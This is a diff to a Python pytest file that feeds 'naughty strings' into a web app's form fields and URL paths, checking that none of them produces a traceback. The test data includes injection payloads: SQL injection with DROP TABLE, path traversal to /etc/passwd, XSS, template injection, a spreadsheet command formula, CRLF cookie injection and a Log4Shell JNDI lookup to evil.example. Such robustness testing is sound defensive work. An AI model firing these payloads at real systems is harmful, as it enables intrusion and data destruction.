@@ -4,37 +4,21 @@ from __future__ import annotations
 
 import pytest
 
+from tests.naughty import ONE_OF_EACH
 from tests.web.city import ANSWERS, City, Resident, read
 
 NAUGHTY = (
     "",
     " " * 5000,
-    "x" * 200_000,
-    "a\0b",
-    "\u202ereversed",
-    "\U0001f469\u200d\U0001f680" * 50,
-    "e" + "\u0301" * 4000,
-    "=cmd|'/c calc'!A0",
-    "{{7*7}}",
-    "{{ ''.__class__.__mro__ }}",
-    "{% for x in range(10**9) %}{% endfor %}",
-    "<svg onload=alert(1)>",
-    "%s%n%x%d",
-    "../../../../etc/passwd",
-    "' OR 1=1; DROP TABLE responses; --",
-    "1e309",
-    "-0",
-    "NaN",
-    "١٢٣",
-    "\x02\x03",
-    "javascript:alert(1)",
-    "${jndi:ldap://evil.example/x}",
     "\r\nSet-Cookie: stolen=1",
+    "<svg onload=alert(1)>",
+    "${jndi:ldap://evil.example/x}",
+    *(one.text for one in ONE_OF_EACH),
 )
 FORM = "application/x-www-form-urlencoded"
 
 
-@pytest.mark.parametrize("text", NAUGHTY, ids=ascii)
+@pytest.mark.parametrize("text", NAUGHTY, ids=lambda text: ascii(text)[:40])
 @pytest.mark.parametrize(
     "field", ["_secret", "_page", "_return_to", "_do", "_code", "_ticket", "_receipt", "_key"]
 )
@@ -49,7 +33,9 @@ def test_a_naughty_string_in_a_field_of_the_page_itself_fails_nothing(
     assert "Traceback" not in response.text
 
 
-@pytest.mark.parametrize("text", [text for text in NAUGHTY if text], ids=ascii)
+@pytest.mark.parametrize(
+    "text", [text for text in NAUGHTY if text], ids=lambda text: ascii(text)[:40]
+)
 def test_a_naughty_string_in_an_address_fails_nothing(city: City, text: str) -> None:
     client = city.app.test_client()
     for path in ("/s/{}", "/s/{}/en", f"/s/{city.slug}/{{}}", "/reports/{}/", "/reports/q3/{}"):
